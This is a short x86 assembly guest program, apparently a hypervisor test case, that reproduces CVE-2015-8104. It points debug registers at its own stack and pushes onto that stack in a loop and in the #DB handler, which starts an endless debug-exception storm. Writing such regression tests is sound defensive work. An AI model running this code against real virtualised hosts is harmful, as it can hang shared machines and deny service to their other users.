; Each delivery of #DB writes to the stack, which is watched: #DB again, before the handler's first
; instruction, for ever (CVE-2015-8104).
%include "guest.inc"

	GUEST
	IDT32 1, on_debug
	mov eax, stack_top - 64
	mov dr0, eax
	mov eax, stack_top - 68
	mov dr1, eax
	mov eax, stack_top - 72
	mov dr2, eax
	mov eax, 0xddd042a	; 4 bytes written, all three
	mov dr7, eax
	mov esp, stack_top - 60
	SAY "db_storm: begins"
	mov esp, stack_top - 60
	push eax
.more:
	mov esp, stack_top - 60
	jmp .more
on_debug:
	mov esp, stack_top - 60
	push eax
	jmp on_debug

	ROUTINES
